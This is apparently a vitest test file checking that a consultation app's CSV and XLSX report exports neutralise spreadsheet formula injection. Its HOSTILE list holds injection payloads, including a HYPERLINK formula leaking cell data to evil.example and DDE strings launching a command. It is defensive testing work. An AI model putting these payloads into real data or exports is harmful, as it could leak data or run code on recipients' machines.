import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, describe, expect, it } from "vitest";
import { neutraliseCell } from "../src/reports/exports.js";
import { giveRole, Talker, testApp } from "./helpers/app.js";
import { closeAll } from "./helpers/db.js";

afterAll(closeAll);

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
];
const HARMLESS = ["Đề nghị tăng lương = 5%", "Bình thường, không có gì"];

describe("exports against formula injection (OWASP CSV injection)", () => {
  it("prefixes an apostrophe to text cells that would start a formula, in the .csv and the .xlsx, and nothing else", async () => {
    const app = await testApp();
    await giveRole(app, "1", "Cán bộ tỉnh", "staff", "LC");
    const staff = await app.services.people.resolve("telegram", "1", "Cán bộ tỉnh");
    const opened = await app.services.consultations.open(staff, {
      title: "Góp ý dự thảo",
      items: ["Dự thảo Báo cáo chính trị"],
      rootUnitCode: "LC",
      closesAt: new Date(app.clock.now().getTime() + 86_400_000),
    });
    if (!opened.ok) throw new Error(opened.problem);
    const item = await app.db.consultationItem.findFirstOrThrow();
    const unit = await app.db.unit.findUniqueOrThrow({ where: { code: "LC-TD-01" } });
    for (const [i, text] of [...HOSTILE, ...HARMLESS].entries()) {
      // The author's name is member-controlled too.
      const name = i === 0 ? "=1+2" : `Người ${i}`;
      await giveRole(app, `${100 + i}`, name, "member", "LC-TD-01");
      const actor = await app.services.people.resolve("telegram", `${100 + i}`, name);
      const r = await app.services.opinions.give(actor, {
        consultationId: opened.consultation.id,
        itemId: item.id,
        unitId: unit.id,
        kind: "other",
        text,
      });
      if (!r.ok) throw new Error(r.problem);
    }
    const out = await Talker.private(app, "1", "Cán bộ tỉnh").send(`/xuatbaocao LC ${opened.consultation.code}`);
    const file = (ext: string) =>
      Buffer.from(
        (out.find((o) => o.reply.kind === "file" && o.reply.fileName.endsWith(ext))!.reply as { data: Uint8Array })
          .data,
      );

    const rows = parse(file(".csv").toString("utf8").slice(1)) as string[][];
    const csvTexts = rows.slice(1).map((r) => r[6]);
    // Opinions are stored trimmed; what a spreadsheet would read as a formula starts with an apostrophe.
    for (const text of HOSTILE) expect(csvTexts).toContain(`'${text.trim()}`);
    for (const text of HARMLESS) expect(csvTexts).toContain(text);
    expect(rows.slice(1).map((r) => r[7])).toContain("'=1+2");
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file(".xlsx") as unknown as ArrayBuffer);
    for (const ws of wb.worksheets)
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === "string") expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
        }),
      );
    const xlsxTexts = wb.getWorksheet(2)!.getColumn(7).values;
    expect(xlsxTexts).toContain("'+cmd|' /C calc'!A0");
    expect(xlsxTexts).toContain("Đề nghị tăng lương = 5%");
  });

  it("leaves numbers and ordinary text alone", () => {
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell("Ý kiến - bổ sung")).toBe("Ý kiến - bổ sung");
    expect(neutraliseCell("-5 người")).toBe("'-5 người");
    expect(neutraliseCell("\r\n@x")).toBe("'\r\n@x");
  });
});
